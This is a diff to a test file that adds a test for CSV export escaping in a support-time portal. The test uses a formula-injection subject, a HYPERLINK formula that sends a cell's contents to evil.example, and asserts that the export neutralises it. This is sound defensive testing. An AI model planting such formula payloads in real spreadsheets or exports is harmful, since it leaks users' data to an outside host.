@@ -3,6 +3,7 @@ every piece of support time, with the balance after each row; filters; keyset pa
 
 from __future__ import annotations
 
+import csv
 import datetime
 import re
 
@@ -303,3 +304,15 @@ def test_the_last_12_months_are_the_charts_months(today, first):
     assert bounds == (first, today)
     assert statement.chart_months(today)[0] == first
     assert len(statement.chart_months(today)) == 12
+
+
+async def test_a_subject_that_looks_like_a_formula_stays_text_in_the_csv(client):
+    await catalog.seed_demo_catalog()
+    form = await register(client)
+    company_id = await _company_id(form["company_name"])
+    ticket = await make_ticket(company_id, '=HYPERLINK("http://evil.example/?"&A1;"Klikk")')
+    await _log(ticket, await _technician(), 30, "formula")
+    text = (await client.get("/portal/usage.csv")).content.decode("utf-8-sig")
+    [record] = list(csv.reader(text.splitlines()[1:], delimiter=";"))
+    assert record[3] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klikk")'
+    assert record[10] == "0" and record[12] == "0"  # numbers stay numbers
